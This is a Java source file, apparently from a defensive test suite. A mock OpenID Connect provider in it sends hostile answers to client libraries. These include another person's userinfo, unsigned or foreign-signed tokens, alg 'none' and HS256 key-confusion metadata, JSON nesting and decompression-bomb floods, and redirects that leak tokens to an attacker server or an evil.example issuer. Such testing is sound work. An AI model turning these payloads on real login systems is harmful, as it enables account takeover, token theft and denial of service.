package io.github.psc4j.attack.internal;

import static io.github.psc4j.mock.journal.Operation.CODE_GRANT;
import static io.github.psc4j.mock.journal.Operation.DISCOVERY;
import static io.github.psc4j.mock.journal.Operation.KEYS;
import static io.github.psc4j.mock.journal.Operation.USERINFO;

import com.nimbusds.jose.util.JSONObjectUtils;
import io.github.psc4j.attack.report.Attack.Expectation;
import io.github.psc4j.mock.extension.CompactJws;
import io.github.psc4j.mock.extension.Delivery;
import io.github.psc4j.mock.extension.JsonResponses;
import io.github.psc4j.mock.extension.MockResponse;
import io.github.psc4j.mock.journal.Operation;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.function.UnaryOperator;

/** Answers of the provider's endpoints: of somebody else, unreadable, without end, or from elsewhere. */
final class ResponseAttacks {

    private static final String OTHER_PERSON = "the data of one person come into the session of another";
    private static final String FLOODED =
            "one answer fills the memory or keeps a thread busy for as long as the attacker likes";
    private static final String LEAKED = "code, secret or token go to the attacker";
    private static final int HUGE = 16 * 1024 * 1024;
    private static final int BOMB = 64 * 1024 * 1024;
    private static final int DEEP = 10_000;

    private ResponseAttacks() {}

    static List<AttackPlan> all() {
        List<AttackPlan> all = new ArrayList<>();
        all.addAll(userInfo());
        all.addAll(tokens());
        all.addAll(sizes());
        all.addAll(redirects());
        all.addAll(metadata());
        return all;
    }

    private static List<AttackPlan> userInfo() {
        return List.of(
                AttackPlan.of(
                                "V39-userinfo-of-somebody-else",
                                "answers with the userinfo of another person",
                                OTHER_PERSON,
                                "OpenID Connect Core 5.3.4")
                        .on(
                                USERINFO,
                                (context, request, response) -> JsonResponses.changed(
                                        response,
                                        document -> context.otherPerson().userInfo())),
                sub("V39-userinfo-subject-array", "puts the right subject into a list", value -> List.of(value)),
                sub(
                        "V39-userinfo-subject-in-capitals",
                        "writes the subject in capitals",
                        value -> String.valueOf(value).toUpperCase(Locale.ROOT)),
                sub("V39-userinfo-subject-begins-right", "adds to the right subject", value -> value + "0"),
                AttackPlan.of(
                                "V39-userinfo-subject-missing",
                                "answers with userinfo without a subject",
                                OTHER_PERSON,
                                "OpenID Connect Core 5.3.2")
                        .on(USERINFO, (context, request, response) -> JsonResponses.without(response, "sub")),
                jwt(
                        "V01-userinfo-unsigned",
                        "answers with userinfo as an unsigned JWT",
                        (context, claims) -> EncryptedTokens.unsigned(claims)),
                jwt(
                        "V01-userinfo-encrypted-unsigned",
                        "answers with userinfo as an encrypted unsigned JWT",
                        (context, claims) ->
                                EncryptedTokens.direct(context.clientSecret(), EncryptedTokens.unsigned(claims))),
                jwt(
                        "V39-userinfo-signed-by-somebody-else",
                        "answers with userinfo that is signed with another key",
                        (context, claims) -> new CompactJws(
                                        Map.of(
                                                "alg",
                                                "RS256",
                                                "kid",
                                                context.providerKey().getKeyID()),
                                        JSONObjectUtils.toJSONString(claims),
                                        "")
                                .signed(context.attacker().signer())
                                .compact()));
    }

    private interface Wrapping {
        String wrapped(AttackContext context, Map<String, Object> claims);
    }

    private static AttackPlan sub(String id, String action, UnaryOperator<Object> change) {
        return AttackPlan.of(id, action, OTHER_PERSON, "OpenID Connect Core 5.3.2")
                .on(
                        USERINFO,
                        (context, request, response) -> JsonResponses.changed(response, document -> {
                            document.put("sub", change.apply(document.getOrDefault("sub", "")));
                            return document;
                        }));
    }

    private static AttackPlan jwt(String id, String action, Wrapping wrapping) {
        return AttackPlan.of(id, action, OTHER_PERSON, "OpenID Connect Core 5.3.2")
                .on(
                        USERINFO,
                        (context, request, response) -> JsonResponses.json(response)
                                .map(document -> {
                                    Map<String, Object> claims = new LinkedHashMap<>(document);
                                    claims.put("iss", context.issuer());
                                    claims.put(
                                            "aud",
                                            context.requested("client_id").orElse(""));
                                    return JsonResponses.withContentType(
                                            response.withBody(wrapping.wrapped(context, claims)), "application/jwt");
                                })
                                .orElse(response));
    }

    private static List<AttackPlan> tokens() {
        return List.of(
                AttackPlan.of(
                                "N06-no-id-token",
                                "answers without an ID token",
                                "nobody says who logged in, and somebody is",
                                "OpenID Connect Core 3.1.3.3")
                        .on(CODE_GRANT, (context, request, response) -> JsonResponses.without(response, "id_token")),
                AttackPlan.of(
                                "N06-no-access-token",
                                "answers without an access token",
                                "a session is half of one",
                                "RFC 6749 5.1")
                        .on(
                                CODE_GRANT,
                                (context, request, response) -> JsonResponses.without(response, "access_token")),
                AttackPlan.of(
                                "N06-token-type-unknown",
                                "answers with a token type that nobody knows",
                                "a token is used otherwise than it was meant",
                                "RFC 6749 7.1")
                        .on(
                                CODE_GRANT,
                                (context, request, response) -> JsonResponses.with(response, "token_type", "N_A")),
                AttackPlan.of(
                                "N06-error-with-tokens",
                                "answers with status 400 and all tokens",
                                "what was refused counts as granted",
                                "RFC 6749 5.2")
                        .on(
                                CODE_GRANT,
                                (context, request, response) -> new MockResponse(
                                        400,
                                        response.headers(),
                                        JsonResponses.with(response, "error", "invalid_grant")
                                                .body())),
                AttackPlan.of(
                                "V10-token-not-a-jwt",
                                "sends two dots as the ID token",
                                "a client that breaks down is not available",
                                "CVE-2019-17195",
                                Expectation.NO_SESSION_NO_SERVER_ERROR)
                        .idToken((context, token) -> ".."),
                AttackPlan.of(
                                "V10-claims-not-json",
                                "signs an ID token whose claims are no JSON",
                                "a client that breaks down is not available",
                                "CVE-2019-17195",
                                Expectation.NO_SESSION_NO_SERVER_ERROR)
                        .claims((context, token) -> token.withPayload("{\"sub\":")),
                AttackPlan.of(
                                "V10-claims-of-wrong-types",
                                "signs an ID token with numbers for texts and texts for numbers",
                                "a client that breaks down is not available",
                                "CVE-2019-17195",
                                Expectation.NO_SESSION_NO_SERVER_ERROR)
                        .claims((context, token) -> token.withClaim("exp", Map.of("a", 1))
                                .withClaim("aud", 7)
                                .withClaim("iss", List.of())));
    }

    private static List<AttackPlan> sizes() {
        List<AttackPlan> all = new ArrayList<>();
        for (Map.Entry<String, Operation> place : List.of(
                Map.entry("token-answer", CODE_GRANT),
                Map.entry("userinfo", USERINFO),
                Map.entry("keys", KEYS),
                Map.entry("metadata", DISCOVERY))) {
            all.add(AttackPlan.of(
                            "V11-" + place.getKey() + "-deep",
                            "nests the " + words(place) + " 10 000 deep",
                            FLOODED,
                            "CVE-2025-53864")
                    .on(place.getValue(), (context, request, response) -> JsonResponses.nested(response, DEEP)));
            all.add(AttackPlan.of(
                            "V54-" + place.getKey() + "-huge",
                            "swells the " + words(place) + " to 16 MiB",
                            FLOODED,
                            "RFC 9700 4.11, CWE-400")
                    .on(place.getValue(), (context, request, response) -> JsonResponses.padded(response, HUGE)));
        }
        for (Map.Entry<String, Operation> place :
                List.of(Map.entry("token-answer", CODE_GRANT), Map.entry("userinfo", USERINFO))) {
            all.add(AttackPlan.of(
                            "V54-" + place.getKey() + "-decompresses",
                            "compresses the " + words(place) + " from 64 MiB to 64 KiB",
                            FLOODED,
                            "CWE-409")
                    .on(
                            place.getValue(),
                            (context, request, response) -> response.delivered(Delivery.compressedBehind(BOMB))));
        }
        all.add(AttackPlan.of(
                        "V11-id-token-deep",
                        "signs an ID token with a claim that is nested 10 000 deep",
                        FLOODED,
                        "CVE-2025-53864")
                .claims((context, token) -> token.withPayload(token.payload()
                        .replaceFirst("\\}$", ",\"nested\":" + JsonResponses.nestedArrays(DEEP) + "}"))));
        all.add(AttackPlan.of(
                        "V54-userinfo-drips",
                        "sends the userinfo piece by piece, slower than a client should wait for",
                        FLOODED,
                        "CWE-400")
                .on(
                        USERINFO,
                        (context, request, response) -> response.delivered(Delivery.dripping(context.slowResponse()))));
        return all;
    }

    private static String words(Map.Entry<String, Operation> place) {
        return place.getKey().replace('-', ' ');
    }

    private static List<AttackPlan> redirects() {
        return List.of(
                redirect("V46-token-endpoint-redirects", "the token endpoint", CODE_GRANT, 307),
                redirect("V46-userinfo-endpoint-redirects", "the userinfo endpoint", USERINFO, 302),
                redirect("V46-keys-redirect", "the key set", KEYS, 302),
                redirect("V46-metadata-redirect", "the discovery document", DISCOVERY, 302));
    }

    private static AttackPlan redirect(String id, String what, Operation operation, int status) {
        return AttackPlan.of(
                        id, "redirects " + what + " to the attacker's server", LEAKED, "CVE-2020-10770, RFC 9700 4.12")
                .on(
                        operation,
                        (context, request, response) -> MockResponse.redirect(
                                status,
                                context.attackerUri("moved", "application/json", response.body())
                                        .toString()));
    }

    private static List<AttackPlan> metadata() {
        return List.of(
                AttackPlan.of(
                                "N07-metadata-of-another-issuer",
                                "serves a discovery document that names another issuer",
                                "the client takes the addresses and keys of an impostor",
                                "OpenID Connect Discovery 4.3")
                        .on(
                                DISCOVERY,
                                (context, request, response) -> JsonResponses.with(
                                        response, "issuer", "https://evil.example/auth/realms/esante-wallet")),
                AttackPlan.of(
                                "V02-metadata-allows-none",
                                "lists none as its only algorithm and sends an unsigned ID token",
                                "anybody can make an ID token of any person",
                                "CVE-2021-44878")
                        .on(
                                DISCOVERY,
                                (context, request, response) -> JsonResponses.with(
                                        response, "id_token_signing_alg_values_supported", List.of("none")))
                        .idToken((context, token) -> EncryptedTokens.unsigned(token.claims())),
                AttackPlan.of(
                                "V04-metadata-allows-hs256",
                                "lists HS256 as its only algorithm and signs with the public key",
                                "anybody can make an ID token of any person",
                                "CVE-2015-9235")
                        .on(
                                DISCOVERY,
                                (context, request, response) -> JsonResponses.with(
                                        response, "id_token_signing_alg_values_supported", List.of("HS256")))
                        .idToken(SignatureAttacks::byPublicKey));
    }
}
